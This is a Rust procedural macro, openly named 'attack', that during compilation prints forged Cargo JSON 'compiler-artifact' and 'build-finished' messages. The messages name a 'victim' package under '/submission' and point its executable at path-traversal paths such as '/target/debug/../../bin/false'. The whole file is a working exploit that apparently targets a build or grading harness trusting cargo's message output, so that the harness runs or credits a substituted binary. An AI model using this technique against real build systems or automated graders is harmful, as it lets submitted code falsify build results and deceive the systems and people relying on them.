use proc_macro::TokenStream;

#[proc_macro]
pub fn attack(_: TokenStream) -> TokenStream {
    let target = std::env::current_exe().unwrap();
    for (file, name) in [("/bin/false", "server"), ("/target/../bin/false", "server"), ("/target/debug/../../bin/false", "server")] {
        println!();
        println!(
            "{{\"reason\":\"compiler-artifact\",\"package_id\":\"path+file:///submission#victim@0.1.0\",\
             \"manifest_path\":\"/submission/Cargo.toml\",\"target\":{{\"kind\":[\"bin\"],\"crate_types\":[\"bin\"],\
             \"name\":\"{name}\",\"src_path\":\"/submission/src/main.rs\",\"edition\":\"2021\",\"doc\":true,\"doctest\":false,\
             \"test\":true}},\"profile\":{{\"opt_level\":\"0\",\"debuginfo\":0,\"debug_assertions\":true,\
             \"overflow_checks\":true,\"test\":false}},\"features\":[],\"filenames\":[\"{file}\"],\
             \"executable\":\"{file}\",\"fresh\":false}}"
        );
    }
    println!("{{\"reason\":\"build-finished\",\"success\":true}} {}", target.display());
    TokenStream::new()
}
